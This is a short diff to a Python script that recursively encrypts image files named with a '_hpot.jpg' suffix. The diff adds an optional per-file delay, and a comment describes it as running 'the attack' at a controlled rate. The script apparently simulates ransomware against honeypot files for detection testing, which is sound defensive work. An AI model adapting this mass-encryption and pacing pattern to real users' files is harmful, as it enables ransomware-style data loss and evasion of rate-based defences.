@@ -111,6 +111,7 @@ from Crypto.Protocol.KDF import scrypt
 from Crypto.Util.Padding import pad
 from PIL import Image
 import os
+import time
 
 # Function to encrypt image
 def encrypt_image(input_path, password):
@@ -146,12 +147,15 @@ def encrypt_image(input_path, password):
     print(f"{input_path} encrypted successfully!")
 
 # Function to encrypt images in a directory and its subdirectories
-def encrypt_images_in_directory(directory_path, password):
+# delay is the pause in seconds after each file, to run the attack at a controlled rate
+def encrypt_images_in_directory(directory_path, password, delay=0):
     for root, dirs, files in os.walk(directory_path):
         for file in files:
             if file.lower().endswith("_hpot.jpg"):
                 file_path = os.path.join(root, file)
                 encrypt_image(file_path, password)
+                if delay:
+                    time.sleep(delay)
 
 # Example usage
 if __name__ == "__main__":